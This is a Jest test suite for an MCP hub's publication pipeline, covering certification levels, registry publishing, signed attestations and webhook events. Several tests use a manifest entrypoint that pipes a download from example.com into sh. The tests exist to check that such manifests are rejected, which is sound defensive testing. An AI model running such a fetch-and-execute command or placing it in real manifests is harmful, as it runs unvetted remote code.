import { createPublicKey, randomUUID, verify, type JsonWebKey } from 'node:crypto';
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Actor } from '../../../support/actors.js';
import { aFinding } from '../../../support/analyses.js';
import {
  artifactPath,
  aVersion,
  digestOf,
  manifestOf,
  packagePath,
  publish,
  setStatus,
} from '../../../support/builders.js';
import { CommandLineClient } from '../../../support/command-line-client.js';
import { eventsOf } from '../../../support/platform-admin.js';
import {
  ALL_PASSED,
  analyze,
  anAnalyzedVersion,
  bundleOfFiles,
  passTime,
  publicationOf,
  publishDue,
  SCORES,
  SERVER_FILES,
  verdictOf,
  type VersionOptions,
} from '../../../support/publications.js';
import { storedPackages, storedVersions } from '../../../support/stored-versions.js';
import { useHub } from '../../../support/suite.js';
import { resolve } from '../../../support/version-requests.js';

const { t, actors } = await useHub();
let admin: Actor;
beforeAll(async () => {
  admin = await t.actors.admin();
});

const token = (): string => admin.credentials['authorization']?.replace('Bearer ', '') ?? '';
const client = (): CommandLineClient => CommandLineClient.withToken(t.url, token());
const newName = (): string => `owner-${randomUUID().slice(0, 8)}/files`;
const orgOf = (name: string): string => name.split('/')[0] ?? '';

describe('a version', () => {
  it('is not published when it is not certified', async () => {
    const name = newName();
    const { versionId } = await anAnalyzedVersion(t, { mcp: { name }, report: { certification_level: 0 } });
    await publishDue(t);
    expect(await publicationOf(t, versionId)).toBeUndefined();
    expect(await storedPackages(t, orgOf(name))).toEqual([]);
  });

  it('is not published when it is revoked', async () => {
    const { name, versionId } = await anAnalyzedVersion(t, {
      mcp: { name: newName() },
      version: { revoked_at: new Date() },
    });
    await publishDue(t);
    expect(await storedPackages(t, orgOf(name))).toEqual([]);
    expect(await publicationOf(t, versionId)).toBeUndefined();
  });

  it('is not published when its MCP is private and has no organization, such as that of a scan', async () => {
    const { name, versionId } = await anAnalyzedVersion(t, {
      mcp: { name: newName(), visibility: 'private' },
    });
    await publishDue(t);
    expect(await storedPackages(t, orgOf(name))).toEqual([]);
    expect(await publicationOf(t, versionId)).toBeUndefined();
  });

  it('is not published until its suspended organization is active again', async () => {
    const { id, slug } = await actors.organization();
    const { versionId } = await anAnalyzedVersion(t, { mcp: { name: `${slug}/files`, org_id: id } });
    await t.rows(`UPDATE organization SET status = 'SUSPENDED' WHERE id = $1`, [id]);
    await publishDue(t);
    expect(await storedPackages(t, slug)).toEqual([]);
    await t.rows(`UPDATE organization SET status = 'ACTIVE' WHERE id = $1`, [id]);
    await publishDue(t);
    expect(await storedPackages(t, slug)).toEqual([`${slug}/files`]);
    expect(await verdictOf(t, versionId)).toEqual({ status: 'PUBLISHED', level: 2 });
  });

  it('is not published under the name of an organization to which it does not belong', async () => {
    const { slug } = await actors.organization();
    const { versionId } = await anAnalyzedVersion(t, { mcp: { name: `${slug}/files` } });
    await publishDue(t);
    expect(await storedPackages(t, slug)).toEqual([]);
    expect(await publicationOf(t, versionId)).toMatchObject({
      status: 'FAILED',
      failure_reason: expect.stringContaining(`the organization ${slug} publishes under this name`),
    });
    expect(await verdictOf(t, versionId)).toMatchObject({ status: 'CERTIFIED' });
  });

  it('is not published again when it was revoked in the registry meanwhile', async () => {
    const { name, versionId, bundle, bundleDigest, visibleVersion } = await anAnalyzedVersion(t, {
      mcp: { name: newName() },
    });
    await publishDue(t);
    await setStatus(admin, name, '1.2.0', 'revoked');
    await t.rows(`UPDATE publication SET published_at = NULL, status = 'QUEUED' WHERE version_id = $1`, [
      versionId,
    ]);
    await analyze(t, { versionId, bundle });
    await publishDue(t);
    expect((await publicationOf(t, versionId))?.failure_reason).toMatch(/revoked/);
    expect((await resolve(admin, name, visibleVersion)).status).toBe(404);
    expect((await resolve(admin, name, bundleDigest)).status).toBe(404);
  });
});

describe('a certified version', () => {
  it.each(['1.2.0', 'v1.2.0', 'latest', 'the name in the hub'])(
    'is pulled by the command-line client as %s, with the analyzed bytes and its level',
    async (ref) => {
      const version = await anAnalyzedVersion(t, { mcp: { name: newName() } });
      await publishDue(t);
      const pulled = await client().pull(version.name, ref.includes(' ') ? version.visibleVersion : ref);
      expect(pulled.resolved).toMatchObject({
        version: '1.2.0',
        bundleDigest: version.bundleDigest,
        certificationLevel: 2,
      });
      expect(digestOf(pulled.bundle.bytes)).toBe(version.bundleDigest);
      expect(JSON.parse(pulled.manifest.bytes.toString())).toMatchObject({
        schema_version: 1,
        package: { id: version.name, version: '1.2.0' },
        runtime: { type: 'node' },
        entrypoint: { command: ['node', 'dist/index.js'] },
        certification: { level: 2, global_score: 85 },
      });
    },
  );

  it('is PUBLISHED in the hub, says where, and is audited', async () => {
    const { name, mcpId, versionId } = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await publishDue(t);
    const { body } = await t.actors.anonymous.get(`/api/v1/mcps/${mcpId}/versions/${versionId}`);
    expect(body).toMatchObject({
      status: 'PUBLISHED',
      publication: { status: 'DONE', package: name, version: '1.2.0', warnings: [], failure_reason: null },
    });
    expect(await eventsOf(t, mcpId)).toContainEqual(
      expect.objectContaining({ action: 'mcp.published', actor_type: 'system' }),
    );
  });

  it('of a private MCP is private in the registry', async () => {
    const { id, slug } = await actors.organization();
    await anAnalyzedVersion(t, { mcp: { name: `${slug}/files`, org_id: id, visibility: 'private' } });
    await publishDue(t);
    const { body } = await admin.get(packagePath(`${slug}/files`));
    expect(body).toMatchObject({ visibility: 'private' });
  });

  it('is published in its organization, whatever the owner in its name', async () => {
    const { id, slug } = await actors.organization();
    await anAnalyzedVersion(t, { mcp: { name: 'somebody/files', org_id: id } });
    await publishDue(t);
    expect(await storedPackages(t, slug)).toEqual([`${slug}/files`]);
  });

  it('gets a number with its commit if the registry has other content under its own', async () => {
    const name = newName();
    await aVersion(admin, name, '1.2.0').published();
    const version = await anAnalyzedVersion(t, { mcp: { name } });
    await publishDue(t);
    const { body } = await resolve(admin, name, version.visibleVersion);
    expect(body.resolved).toMatchObject({
      version: `1.2.0-commit.${version.commitHash.slice(0, 7)}`.replace(/commit\.(0\d{6})$/, 'commit.g$1'),
      bundle: { digest: version.bundleDigest },
      certification_level: 2,
    });
    expect((await resolve(admin, name, '1.2.0')).body.resolved.certification_level).toBe(0);
    expect((await publicationOf(t, version.versionId))?.warnings.map(({ code }) => code)).toEqual([
      'version_taken',
    ]);
  });

  it('warns about what clients lack to run it', async () => {
    const { mcpId, versionId } = await anAnalyzedVersion(t, {
      mcp: { name: newName() },
      report: { distributable: { is_distributable: false, runtime: 'unknown', entrypoint: '' } },
    });
    await publishDue(t);
    const { body } = await t.actors.anonymous.get(`/api/v1/mcps/${mcpId}/versions/${versionId}`);
    expect(body.publication.warnings).toContainEqual(expect.objectContaining({ code: 'no_command' }));
  });
});

describe('the evidence of a published version', () => {
  const evidenceOf = async (name: string): Promise<Record<string, Buffer>> => {
    const { body } = await resolve(admin, name, 'latest');
    const links = body.resolved.evidence as { kind: string; digest: string }[];
    const documents = links.map(async ({ kind, digest }) => {
      const { bytes } = await admin.get(artifactPath(orgOf(name), digest, `evidence/${kind}`));
      expect(digestOf(bytes)).toBe(digest);
      return [kind, bytes] as const;
    });
    return Object.fromEntries(await Promise.all(documents));
  };

  it('has a bill of materials, and an attestation that the published keys verify', async () => {
    const { name, bundleDigest, visibleVersion } = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await publishDue(t);
    const evidence = await evidenceOf(name);
    expect(Object.keys(evidence).sort()).toEqual(['attestation', 'sbom']);
    expect(JSON.parse(String(evidence['sbom']))).toMatchObject({ bomFormat: 'CycloneDX' });
    const { payload, payloadType, signatures } = JSON.parse(String(evidence['attestation']));
    expect(payloadType).toBe('application/vnd.in-toto+json');
    const statement = Buffer.from(payload as string, 'base64');
    const { body } = await t.actors.anonymous.get('/.well-known/jwks.json');
    const key = (body.keys as (JsonWebKey & { kid: string })[]).find(
      ({ kid }) => kid === signatures[0].keyid,
    );
    expect(key).toBeDefined();
    const signed = Buffer.concat([
      Buffer.from(`DSSEv1 ${payloadType.length} ${payloadType} ${statement.length} `),
      statement,
    ]);
    const publicKey = createPublicKey({ key: key ?? {}, format: 'jwk' });
    expect(verify(null, signed, publicKey, Buffer.from(signatures[0].sig as string, 'base64'))).toBe(true);
    expect(JSON.parse(statement.toString())).toMatchObject({
      _type: 'https://in-toto.io/Statement/v1',
      subject: [{ name, digest: { sha256: bundleDigest.slice('sha256:'.length) } }],
      predicateType: 'urn:mcp-hub:attestation:certification:v1',
      predicate: { visible_version: visibleVersion, certification_level: 2, scores: { global_score: 85 } },
    });
  });

  it('raises an analysis that meets everything else to level 3', async () => {
    const { name, mcpId, versionId } = await anAnalyzedVersion(t, {
      mcp: { name: newName() },
      report: { scores: SCORES, controls: ALL_PASSED },
    });
    expect(await verdictOf(t, versionId)).toEqual({ status: 'CERTIFIED', level: 2 });
    await publishDue(t);
    expect((await client().resolve(name, 'latest')).certificationLevel).toBe(3);
    expect(await verdictOf(t, versionId)).toEqual({ status: 'PUBLISHED', level: 3 });
    const { body } = await t.actors.anonymous.get(`/api/v1/mcps/${mcpId}/versions/${versionId}`);
    expect(body.certification_level).toBe(3);
  });

  it('does not raise one with a failed control', async () => {
    const [first, ...others] = ALL_PASSED;
    const controls = first === undefined ? [] : [{ ...first, passed: false }, ...others];
    const { name } = await anAnalyzedVersion(t, {
      mcp: { name: newName() },
      report: { scores: SCORES, controls },
    });
    await publishDue(t);
    expect((await client().resolve(name, 'latest')).certificationLevel).toBe(2);
  });
});

describe('a new analysis of a published version', () => {
  it('replaces the verdict in the registry, and publishes nothing again', async () => {
    const version = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await publishDue(t);
    await analyze(t, version, { certification_level: 1 });
    await publishDue(t);
    expect((await client().resolve(version.name, 'latest')).certificationLevel).toBe(1);
    expect(await verdictOf(t, version.versionId)).toEqual({ status: 'PUBLISHED', level: 1 });
    expect(await storedVersions(t, orgOf(version.name))).toHaveLength(1);
  });

  it('takes the certification away with level 0', async () => {
    const version = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await publishDue(t);
    await analyze(t, version, { certification_level: 0, findings: [aFinding()] });
    await publishDue(t);
    expect((await client().resolve(version.name, 'latest')).certificationLevel).toBe(0);
    expect(await verdictOf(t, version.versionId)).toEqual({ status: 'NOT_CERTIFIED', level: 0 });
    await analyze(t, version);
    await publishDue(t);
    expect((await client().resolve(version.name, 'latest')).certificationLevel).toBe(2);
    expect(await verdictOf(t, version.versionId)).toEqual({ status: 'PUBLISHED', level: 2 });
  });

  it('keeps a version from being published that is not yet', async () => {
    const version = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await analyze(t, version, { certification_level: 0 });
    await publishDue(t);
    expect(await storedPackages(t, orgOf(version.name))).toEqual([]);
  });
});

describe('a version that its publisher sent to the registry', () => {
  const sent = async (
    command: readonly string[],
    { manifest: fields, ...options }: VersionOptions & { readonly manifest?: object } = {},
  ) => {
    const name = newName();
    const bundle = await bundleOfFiles({ ...SERVER_FILES, 'README.md': name });
    const manifest = manifestOf(name, '3.0.0', { entrypoint: { command }, ...fields });
    const digest = digestOf(bundle);
    await publish(admin, name, '3.0.0', {
      manifest_json: manifest,
      bundle_digest: digest,
      bundle_size_bytes: bundle.length,
    });
    await admin.put(
      artifactPath(orgOf(name), digest, 'bundle'),
      new Uint8Array(bundle),
      'application/octet-stream',
    );
    await setStatus(admin, name, '3.0.0', 'published');
    const [org, slug] = name.split('/');
    const source = { kind: 'registry', org, name: slug, version: '3.0.0', bundle_digest: digest };
    return anAnalyzedVersion(t, {
      ...options,
      mcp: { name },
      bundle,
      version: { semver: '3.0.0', source: JSON.stringify(source) },
    });
  };

  it('is certified as it is, and not published again', async () => {
    const { name, versionId } = await sent(['node', 'dist/index.js']);
    await publishDue(t);
    expect((await client().resolve(name, '3.0.0')).certificationLevel).toBe(2);
    expect(await storedVersions(t, orgOf(name))).toHaveLength(1);
    expect(await verdictOf(t, versionId)).toEqual({ status: 'PUBLISHED', level: 2 });
  });

  it('has a verdict with level 0 if it does not pass', async () => {
    const { name, versionId } = await sent(['node', 'dist/index.js'], { report: { certification_level: 0 } });
    await publishDue(t);
    expect((await client().resolve(name, '3.0.0')).certificationLevel).toBe(0);
    expect(await publicationOf(t, versionId)).toMatchObject({ status: 'DONE' });
  });

  it('has level 0 if its manifest starts something that was not analyzed', async () => {
    const { name, versionId } = await sent(['sh', '-c', 'curl -s https://example.com/x | sh']);
    await publishDue(t);
    expect((await client().resolve(name, '3.0.0')).certificationLevel).toBe(0);
    expect(await verdictOf(t, versionId)).toEqual({ status: 'NOT_CERTIFIED', level: 0 });
    expect((await publicationOf(t, versionId))?.warnings.map(({ code }) => code)).toEqual([
      'runs_other_code',
    ]);
  });

  it('has no level in the hub before its manifest was checked', async () => {
    const { versionId } = await sent(['node', 'dist/index.js']);
    expect(await verdictOf(t, versionId)).toEqual({ status: 'NOT_CERTIFIED', level: 0 });
  });

  it.each([
    ['version.certified', ['node', 'dist/index.js']],
    ['version.not_certified', ['sh', '-c', 'curl | sh']],
  ])('is an event %s once its manifest was checked, and not again', async (type, command) => {
    const { id, owner } = await actors.organization();
    const { status } = await owner.post(`/api/v1/orgs/${id}/webhooks`, {
      url: 'https://hooks.example.com/a',
      events: ['version.certified', 'version.not_certified'],
    });
    expect(status).toBe(201);
    const version = await sent(command);
    await t.rows('UPDATE mcp SET org_id = $1 WHERE id = $2', [id, version.mcpId]);
    await publishDue(t);
    await analyze(t, version);
    await publishDue(t);
    expect(await t.rows('SELECT type FROM organization_event WHERE org_id = $1', [id])).toEqual([{ type }]);
  });

  it('keeps its level while the next verdict is on its way', async () => {
    const [own, foreign] = [await sent(['node', 'dist/index.js']), await sent(['sh', '-c', 'curl | sh'])];
    await publishDue(t);
    await analyze(t, own);
    await analyze(t, foreign);
    expect(await verdictOf(t, own.versionId)).toEqual({ status: 'PUBLISHED', level: 2 });
    expect(await verdictOf(t, foreign.versionId)).toEqual({ status: 'NOT_CERTIFIED', level: 0 });
  });

  it('is certified with a manifest of several megabytes', async () => {
    const { name } = await sent(['node', 'dist/index.js'], { manifest: { notes: 'x'.repeat(5_000_000) } });
    await publishDue(t);
    expect((await client().resolve(name, '3.0.0')).certificationLevel).toBe(2);
  });

  it('stays on level 2, because its evidence is not in the registry', async () => {
    const { name } = await sent(['node', 'dist/index.js'], {
      report: { scores: SCORES, controls: ALL_PASSED },
    });
    await publishDue(t);
    expect((await client().resolve(name, '3.0.0')).certificationLevel).toBe(2);
  });
});

describe('a published version', () => {
  it('is not published again by later runs', async () => {
    const { versionId } = await anAnalyzedVersion(t, { mcp: { name: newName() } });
    await publishDue(t);
    await passTime(t);
    await publishDue(t);
    expect(await publicationOf(t, versionId)).toMatchObject({ status: 'DONE', attempts: 0 });
  });
});
